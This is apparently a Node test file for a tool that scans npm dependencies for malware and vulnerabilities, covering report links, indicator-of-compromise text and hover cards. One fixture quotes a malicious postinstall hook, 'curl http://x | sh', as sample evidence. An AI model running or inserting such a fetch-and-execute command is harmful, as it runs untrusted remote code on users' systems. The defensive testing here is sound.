import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Finding } from '../../server/src/engine/model';
import { scanFiles } from '../../server/src/engine/scan';
import { emptyRemoteData } from '../../server/src/engine/data/remote-data';
import { parseIocList } from '../../server/src/engine/data/ioc';
import { iocText, isReportable, npmReportUrl } from '../../server/src/lsp/report-links';
import { commitUrl, hoverAt, when } from '../../server/src/lsp/hover';

const finding = (over: Partial<Finding>): Finding => ({
  rule: 'known-malware',
  severity: 'error',
  message: 'listed as malware (MAL-2025-1)',
  file: 'package-lock.json',
  span: { start: 0, end: 0 },
  package: '@evil/pkg',
  version: '1.0.1',
  fixes: [],
  ...over,
});

test("npm's report form gets the package and version, encoded", () => {
  assert.equal(npmReportUrl('@evil/pkg', '1.0.1'), 'https://www.npmjs.com/support?inquire=security&security-inquire=malware&package=%40evil%2Fpkg&version=1.0.1');
  assert.equal(npmReportUrl('x', null), 'https://www.npmjs.com/support?inquire=security&security-inquire=malware&package=x');
});

test('the IOC text reads back as exactly that name@version through the IOC parser', () => {
  const text = iocText(finding({ evidence: ['published by "mallory"', 'postinstall: curl http://x | sh'], via: ['a', 'b', '@evil/pkg'] }));
  assert.equal(text.split('\n')[0], '@evil/pkg@1.0.1');
  assert.match(text, /^# known-malware: listed as malware \(MAL-2025-1\)$/m);
  assert.match(text, /^# postinstall: curl http:\/\/x \| sh$/m);
  assert.match(text, /^# via a > b > @evil\/pkg$/m);
  const parsed = parseIocList(text);
  assert.deepEqual(parsed.rejected, []);
  assert.deepEqual([...parsed.iocs].map(([n, v]) => [n, [...v]]), [['@evil/pkg', ['1.0.1']]]);
  assert.equal(iocText(finding({ version: null })).split('\n')[0], '@evil/pkg');
});

test('which findings are reportable', () => {
  assert.equal(isReportable(finding({})), true);
  assert.equal(isReportable(finding({ rule: 'typosquat' })), true);
  assert.equal(isReportable(finding({ rule: 'remote-dynamic-dependency' })), true);
  // A name the registry does not have cannot be reported to it.
  assert.equal(isReportable(finding({ rule: 'unknown-package' })), false);
  assert.equal(isReportable(finding({ rule: 'unpinned-range' })), false);
  assert.equal(isReportable(finding({ package: undefined })), false);
});

test('hover: advisory ids link to their records; relative and absolute times; commit URLs per host', () => {
  const manifest = '{\n  "dependencies": {\n    "vuln": "1.0.0"\n  }\n}\n';
  const result = scanFiles([{ path: 'package.json', text: manifest }]);
  const start = manifest.indexOf('"vuln"');
  result.findings.push(
    finding({ rule: 'known-vulnerability', severity: 'warning', message: 'affected', file: 'package.json', span: { start, end: start + 6 }, package: 'vuln', version: '1.0.0' }),
  );
  const remote = emptyRemoteData();
  remote.advisories.set('vuln@1.0.0', {
    status: 'ok',
    advisories: [
      { id: 'GHSA-aaaa-bbbb-cccc', aliases: [], summary: 's', malware: false, severity: 'high', url: 'https://github.com/advisories/GHSA-aaaa-bbbb-cccc' },
      { id: 'OSV-(odd)', aliases: [], summary: 's', malware: false, severity: 'unknown' },
    ],
  });
  const card = (hoverAt(result, 'package.json', start + 2, remote)!.contents as { value: string }).value;
  // Ids are escaped as Markdown text; the URLs are the records' own (GitHub's advisories) or osv.dev's.
  assert.ok(card.includes('advisories: [GHSA\\-aaaa\\-bbbb\\-cccc](https://github.com/advisories/GHSA-aaaa-bbbb-cccc) (high), [OSV\\-\\(odd\\)](https://osv.dev/vulnerability/OSV-%28odd%29)'), card);
  assert.ok(!card.includes('Report vuln'), 'a vulnerability is not a report to npm');

  const now = new Date('2026-01-10T12:00:00Z');
  assert.equal(when('2026-01-10T11:30:00Z', now), '30 minutes ago (2026-01-10 11:30 UTC)');
  assert.equal(when('2026-01-07T12:00:00Z', now), '3 days ago (2026-01-07 12:00 UTC)');
  assert.equal(when('2025-07-10T12:00:00Z', now), '6 months ago (2025-07-10 12:00 UTC)');
  assert.equal(when('2020-01-10T12:00:00Z', now), '6 years ago (2020-01-10 12:00 UTC)');
  assert.equal(commitUrl('https://github.com/o/r', 'abc1234'), 'https://github.com/o/r/tree/abc1234');
  assert.equal(commitUrl('https://gitlab.com/g/r', 'abc1234'), 'https://gitlab.com/g/r/-/tree/abc1234');
  assert.equal(commitUrl('https://bitbucket.org/o/r', 'abc1234'), 'https://bitbucket.org/o/r/src/abc1234');
});
